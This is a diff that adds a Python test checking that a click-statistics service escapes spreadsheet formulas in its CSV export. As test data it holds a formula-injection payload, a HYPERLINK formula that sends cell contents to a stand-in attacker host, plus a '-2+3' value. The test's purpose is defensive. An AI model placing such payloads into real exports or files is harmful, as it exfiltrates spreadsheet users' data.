@@ -211,6 +211,31 @@ def test_csv_says_the_same_as_json(aggregator, migrated):
         assert lines == expected
 
 
+def test_csv_holds_no_formula_of_a_visitor(aggregator, migrated):
+    rng = random.Random(17)
+    at = WINDOWS[1][0] * 1000
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    migrated.link("code1", 1)
+    migrated.insert([make_click(rng, at + i, 1, outcome="redirected",
+                                verdict="human", referrer_host=evil,
+                                tags=["-2+3", "fine"]) for i in range(3)])
+    made = aggregator()
+
+    def values(group, **params):
+        answer = requests.get(made.url + "/v1/clicks", params={
+            "from": rfc3339(FROM), "to": rfc3339(TO), "code": "code1",
+            "group_by": group, **params})
+        return answer, [row[group] for row in csv.DictReader(
+            io.StringIO(answer.text, newline=""))]
+
+    answer, hosts = values("referrer_host", format="csv")
+    assert hosts == ["'" + evil]
+    assert '\r\n"\'=HYPERLINK(""http' in answer.text
+    assert sorted(values("tag", format="csv")[1]) == ["'-2+3", "fine"]
+    # JSON is not for spreadsheets: values are as they came.
+    assert values("referrer_host")[0].json()["groups"][0]["value"] == evil
+
+
 def test_a_reused_code_starts_at_zero(aggregator, migrated):
     old, new = (1 << 42) | 77, (2 << 42) | 77
     rng = random.Random(8)
